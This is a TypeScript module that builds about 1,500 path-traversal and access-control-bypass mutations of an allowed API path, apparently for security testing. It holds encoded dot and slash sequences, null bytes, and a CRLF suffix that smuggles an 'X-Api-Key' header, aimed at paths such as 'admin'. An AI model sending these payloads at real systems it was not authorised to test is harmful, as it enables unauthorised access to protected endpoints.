// Pieces that some parser somewhere reads as a dot segment, a slash, the end of a path, or nothing at all.
const dots = [
  '.',
  '..',
  '...',
  '%2e',
  '%2e%2e',
  '.%2e',
  '%2E.',
  '%252e%252e',
  '%c0%ae%c0%ae',
  '%u002e%u002e',
  '..;',
  '..%00',
  '..%09',
  '. .',
  '.. ',
  '\u00b7\u00b7',
]
const slashes = [
  '/',
  '//',
  '\\',
  '%2f',
  '%2F',
  '%5c',
  '%252f',
  '%c0%af',
  '/./',
  '/;/',
  ';/',
  '/%20/',
  '%00/',
  '/%0d%0a',
]
const targets = ['v2/upload', 'v2/transcript/t2/redacted-audio', 'admin']
const suffixes = [
  '',
  '/',
  '?',
  '#',
  '%00',
  '%20',
  '%3f',
  '%23',
  ';',
  ';x=1',
  '..',
  '.json',
  '%0d%0aX-Api-Key:%20x',
  '\t',
  '\\',
  '::',
  ':delete',
  '%',
  '%2',
  '%zz',
  '%ff',
  '%7f',
  '\x7f',
  '\x80',
  '+',
  '*',
  '@',
  '|',
  '^',
  '`',
  '"',
  '<',
  '{',
  '[',
  '~',
  "'",
  '(',
  ',',
  '$',
  '&',
  '=',
  '!',
]

/** Returns mutations of an allowed path: about 1,500, none twice, for an attack that sends each as it is. */
export function attackPaths(prefix: string, id: string): string[] {
  const paths = new Set<string>()
  const segments = prefix.slice(1).split('/')
  for (const dot of dots) {
    for (const slash of slashes) {
      for (const target of targets) {
        paths.add(`${prefix}/${dot}${slash}${target}`)
        paths.add(`${prefix}/${id}${slash}${dot}${slash}${dot}${slash}${target}`)
      }
    }
  }
  for (const slash of slashes) {
    // A separator in the place of each slash of the allowed path, and before and after it.
    for (let at = 0; at <= segments.length; at += 1) {
      paths.add(`/${segments.slice(0, at).join('/')}${slash}${segments.slice(at).join('/')}/${id}`)
    }
    paths.add(`${slash}${segments.join(slash)}${slash}${id}`)
  }
  for (const suffix of suffixes) {
    paths.add(`${prefix}${suffix}`)
    paths.add(`${prefix}/${id}${suffix}`)
    paths.add(`${prefix}/${suffix}${id}`)
    paths.add(`${prefix}${suffix}/${id}`)
  }
  for (let code = 0; code < 256; code += 1) {
    if (code !== 0x0a && code !== 0x0d) paths.add(`${prefix}/a${String.fromCharCode(code)}b`)
    paths.add(`${prefix}/a%${code.toString(16).padStart(2, '0')}b`)
  }
  return [...paths]
}
